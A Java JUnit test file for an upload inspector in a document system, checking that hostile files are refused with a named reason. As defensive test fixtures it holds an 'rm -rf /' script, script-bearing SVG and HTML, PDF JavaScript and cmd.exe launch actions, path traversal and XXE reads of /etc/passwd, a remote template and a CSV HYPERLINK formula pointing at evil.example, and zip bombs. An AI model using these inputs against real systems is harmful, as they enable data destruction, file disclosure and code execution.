package de.nordertor.document.control;

import static de.nordertor.document.control.SampleFiles.exe;
import static de.nordertor.document.control.SampleFiles.half;
import static de.nordertor.document.control.SampleFiles.image;
import static de.nordertor.document.control.SampleFiles.joined;
import static de.nordertor.document.control.SampleFiles.pdf;
import static de.nordertor.document.control.SampleFiles.pdfWith;
import static de.nordertor.document.control.SampleFiles.png;
import static de.nordertor.document.control.SampleFiles.text;
import static de.nordertor.document.control.SampleFiles.webp;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import de.nordertor.document.entity.AttachmentType;
import de.nordertor.document.entity.FileName;
import de.nordertor.platform.entity.InvalidInputException;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Each hostile file is refused with the sentence that names its reason. */
class HostileFileTest {

    private static final String ODT = AttachmentType.ODT.mediaType();

    @TempDir
    private Path directory;

    static Stream<Arguments> hostileFiles() {
        List<Arguments> all = new ArrayList<>();
        wrongTypes(all);
        twoInOne(all);
        documents(all);
        return all.stream();
    }

    private static void wrongTypes(List<Arguments> all) {
        hostile(all, "an empty file", "leer.pdf", new byte[0], "empty");
        hostile(all, "a program", "setup.exe", exe(), "notAllowed");
        hostile(all, "a program named as a letter", "brief.docx", exe(), "contentDiffers");
        hostile(all, "a program hidden by a second extension", "brief.pdf.exe", exe(), "notAllowed");
        hostile(all, "a name turned round", "rechnung\u202efdp.exe", exe(), "notAllowed");
        hostile(all, "a name cut by NUL", "brief.pdf\0.exe", exe(), "notAllowed");
        hostile(all, "no extension", "brief", pdf(), "notAllowed");
        hostile(all, "SVG with a script", "a.svg", text("<svg><script>alert(1)</script></svg>"), "notAllowed");
        hostile(all, "SVG named as an image", "a.png", text("<svg><script>alert(1)</script></svg>"), "contentDiffers");
        hostile(all, "SVG named as text", "a.txt", text("<svg xmlns='http://www.w3.org/2000/svg'/>"), "contentDiffers");
        hostile(all, "a web page named PDF", "a.pdf", text("<!DOCTYPE html><script>1</script>"), "contentDiffers");
        hostile(all, "a web page named text", "a.txt", text("<html><script>1</script></html>"), "contentDiffers");
        hostile(all, "a shell script named text", "a.txt", text("#!/bin/sh\nrm -rf /\n"), "contentDiffers");
        hostile(all, "an archive", "a.zip", ZipBuilder.docx().bytes(), "notAllowed");
        hostile(all, "an image of another kind", "a.jpg", image("png"), "contentDiffers");
        hostile(all, "zeros named as text", "a.csv", text("a;b\0;c"), "notText");
        hostile(
                all,
                "a spreadsheet named as a letter",
                "a.docx",
                ZipBuilder.xlsx().bytes(),
                "contentDiffers");
        hostile(
                all,
                "an archive named as a letter",
                "a.docx",
                new ZipBuilder().with("a", "b").bytes(),
                "contentDiffers");
        hostile(all, "half an image", "a.png", half(image("png")), "damaged");
        hostile(all, "half a photograph", "a.jpg", half(image("jpg")), "damaged");
        hostile(all, "half a PDF", "a.pdf", half(pdf()), "damaged");
        hostile(all, "half a letter", "a.docx", half(ZipBuilder.docx().bytes()), "damaged");
        brokenImages(all);
        hostile(all, "an image of a billion pixels", "a.png", png(50_000, 50_000), "pixels");
        hostile(all, "an image of negative size", "a.png", png(-1, 10), "damaged");
    }

    private static void brokenImages(List<Arguments> all) {
        hostile(all, "an image without its header", "a.png", patched(image("png"), 12, 'X'), "damaged");
        hostile(all, "an image part longer than the file", "a.png", patched(image("png"), 35, 0x7F), "damaged");
        hostile(all, "an image part of negative length", "a.png", patched(image("png"), 33, 0xFF), "damaged");
        hostile(all, "a photograph without its end", "a.jpg", withoutEnd(image("jpg"), 2), "damaged");
        hostile(all, "a photograph with a broken mark", "a.jpg", patched(image("jpg"), 20, 0), "damaged");
        hostile(all, "an animation without its end", "a.gif", withoutEnd(image("gif"), 1), "damaged");
        hostile(all, "WebP longer than the file", "a.webp", patched(webp(), 5, 1), "damaged");
        hostile(all, "WebP of no known kind", "a.webp", patched(webp(), 15, 'Z'), "damaged");
    }

    private static byte[] patched(byte[] file, int position, int value) {
        file[position] = (byte) value;
        return file;
    }

    private static byte[] withoutEnd(byte[] file, int bytes) {
        return Arrays.copyOf(file, file.length - bytes);
    }

    private static void twoInOne(List<Arguments> all) {
        byte[] archive = new ZipBuilder().with("a.class", "x").bytes();
        hostile(
                all,
                "PDF and web page",
                "a.pdf",
                text(SampleFiles.PDF.replace("1 0", "<script>1</script> 1 0")),
                "twoInOne");
        hostile(all, "PDF and archive", "a.pdf", joined(pdf(), archive), "twoInOne");
        hostile(all, "image and archive", "a.png", joined(image("png"), archive), "twoInOne");
        hostile(all, "photograph and archive", "a.jpg", joined(image("jpg"), archive), "twoInOne");
        hostile(all, "image and web page", "a.png", joined(image("png"), text("<script>1</script>")), "twoInOne");
        hostile(all, "WebP and web page", "a.webp", joined(webp(), text("<script>1</script>")), "twoInOne");
        hostile(
                all,
                "program and letter",
                "a.docx",
                joined(exe(), ZipBuilder.docx().bytes()),
                "contentDiffers");
        hostile(all, "an encrypted PDF", "a.pdf", pdfWith("trailer << /Encrypt 5 0 R >>"), "encrypted");
        hostile(all, "a PDF with JavaScript", "a.pdf", pdfWith("<< /S /JavaScript /JS (app.alert(1)) >>"), "active");
        hostile(all, "a PDF that starts a program", "a.pdf", pdfWith("<</S/Launch/F(cmd.exe)>>"), "active");
    }

    private static void documents(List<Arguments> all) {
        String remote =
                "<Relationship Id=\"1\" Type=\"http://x/attachedTemplate\" Target=\"http://evil.example/a.dotm\"/>";
        hostile(all, "a bomb of zeros", "a.docx", docx("word/media/a.bmp", new byte[64 * 1024 * 1024]), "bomb");
        hostile(all, "a bomb of many parts", "a.docx", manyParts(), "bomb");
        hostile(
                all,
                "an archive inside",
                "a.docx",
                docx("word/a.zip", ZipBuilder.xlsx().bytes()),
                "nested");
        hostile(all, "a program inside", "a.docx", docx("word/embeddings/a.bin", exe()), "nested");
        hostile(all, "macros", "a.docx", docx("word/vbaProject.bin", exe()), "macros");
        hostile(all, "a macro file", "a.docm", docx("word/vbaProject.bin", exe()), "notAllowed");
        hostile(all, "macros in a text document", "a.odt", odt("Basic/Standard/M.xml", "<a/>"), "macros");
        hostile(all, "a way out", "a.docx", docx("../../etc/cron.d/x", text("x")), "path");
        hostile(all, "an absolute path", "a.docx", docx("/etc/passwd", text("x")), "path");
        hostile(all, "a Windows path", "a.docx", docx("C:\\Windows\\x", text("x")), "path");
        hostile(
                all,
                "a link out",
                "a.docx",
                ZipBuilder.docx().with("word/a", "/etc/passwd").withLastAsLink(),
                "path");
        hostile(all, "encrypted parts", "a.docx", ZipBuilder.docx().withLastEncrypted(), "encrypted");
        hostile(all, "an encrypted text document", "a.odt", encryptedOdt(), "encrypted");
        hostile(all, "the container of encrypted Office files", "a.docx", oleContainer(), "encrypted");
        hostile(all, "parts over each other", "a.docx", ZipBuilder.docx().withLastOverOthers(), "bomb");
        hostile(all, "a broken table of contents", "a.docx", ZipBuilder.docx().withLastBroken(), "damaged");
        hostile(all, "two parts of one name", "a.docx", twoPartsOfOneName(), "damaged");
        hostile(
                all,
                "one letter behind another",
                "a.docx",
                joined(ZipBuilder.docx().bytes(), ZipBuilder.docx().bytes()),
                "damaged");
        hostile(
                all,
                "external entities",
                "a.docx",
                docx("word/a.xml", text("<!DOCTYPE a SYSTEM 'file:///etc/passwd'><a/>")),
                "entity");
        hostile(
                all,
                "external entities in UTF-16",
                "a.docx",
                docx("word/a.xml", "<!DOCTYPE a>".getBytes(StandardCharsets.UTF_16)),
                "entity");
        hostile(all, "a remote template", "a.docx", docx("word/_rels/settings.xml.rels", text(remote)), "remote");
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostileFiles")
    void aHostileFileIsRefusedWithItsReason(String what, String name, byte[] content, String reason) {
        assertThatThrownBy(() -> inspect(name, content))
                .isInstanceOf(InvalidInputException.class)
                .hasMessage("document.file." + reason);
    }

    @Test
    void thereAreMoreThanTwentyOfThem() {
        assertThat(hostileFiles()).hasSizeGreaterThan(20);
    }

    static Stream<Arguments> harmlessFiles() {
        Map<AttachmentType, byte[]> harmless = Map.ofEntries(
                Map.entry(AttachmentType.PDF, pdf()),
                Map.entry(AttachmentType.PNG, image("png")),
                Map.entry(AttachmentType.JPEG, image("jpg")),
                Map.entry(AttachmentType.GIF, image("gif")),
                Map.entry(AttachmentType.WEBP, webp()),
                Map.entry(AttachmentType.TXT, text("Grüße aus der Lehmwandlung\r\n")),
                Map.entry(AttachmentType.CSV, text("=HYPERLINK(\"http://evil.example\");@SUM(A1)\n")),
                Map.entry(AttachmentType.DOCX, ZipBuilder.docx().bytes()),
                Map.entry(AttachmentType.XLSX, docxLike(ZipBuilder.xlsx())),
                Map.entry(AttachmentType.PPTX, ZipBuilder.pptx().bytes()),
                Map.entry(AttachmentType.ODT, ZipBuilder.odf(ODT).bytes()),
                Map.entry(
                        AttachmentType.ODS,
                        ZipBuilder.odf(AttachmentType.ODS.mediaType()).bytes()),
                Map.entry(
                        AttachmentType.ODP,
                        ZipBuilder.odf(AttachmentType.ODP.mediaType()).bytes()));
        return harmless.entrySet().stream().map(file -> Arguments.of(file.getKey(), file.getValue()));
    }

    @ParameterizedTest
    @MethodSource("harmlessFiles")
    void everyAllowedTypeIsTaken(AttachmentType type, byte[] content) throws IOException {
        assertThat(inspect("Anlage." + type.name(), content)).isEqualTo(type);
    }

    private AttachmentType inspect(String name, byte[] content) throws IOException {
        Path file = Files.write(directory.resolve("file"), content);
        return new FileInspector()
                .inspect(new ReceivedFile(file, content.length, "0".repeat(64)), FileName.clean(name))
                .type();
    }

    private static void hostile(List<Arguments> all, String what, String name, byte[] content, String reason) {
        all.add(Arguments.of(what, name, content, reason));
    }

    private static byte[] docx(String part, byte[] content) {
        return ZipBuilder.docx().with(part, content).bytes();
    }

    private static byte[] odt(String part, String content) {
        return ZipBuilder.odf(ODT).with(part, content).bytes();
    }

    /** A workbook with a chart that carries its own workbook, as Office writes it. */
    private static byte[] docxLike(ZipBuilder workbook) {
        return workbook.with("xl/embeddings/Sheet1.xlsx", ZipBuilder.xlsx().bytes())
                .with("xl/printerSettings/printerSettings1.bin", new byte[] {'H', 0, 'P', 0})
                .bytes();
    }

    private static byte[] manyParts() {
        ZipBuilder many = ZipBuilder.docx();
        for (int i = 0; i < ZipDirectory.MAX_ENTRIES; i++) {
            many.with("word/p" + i, "");
        }
        return many.bytes();
    }

    private static byte[] twoPartsOfOneName() {
        byte[] letter = ZipBuilder.docx()
                .with("word/same1", "harmless")
                .with("word/same2", "hostile")
                .bytes();
        String bytes = new String(letter, StandardCharsets.ISO_8859_1).replace("word/same2", "word/same1");
        return bytes.getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] encryptedOdt() {
        return new ZipBuilder()
                .with("mimetype", ODT)
                .with("META-INF/manifest.xml", "<manifest:file-entry><manifest:encryption-data x='1'/>")
                .bytes();
    }

    private static byte[] oleContainer() {
        byte[] container = new byte[1024];
        byte[] start = {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1};
        System.arraycopy(start, 0, container, 0, start.length);
        return container;
    }
}
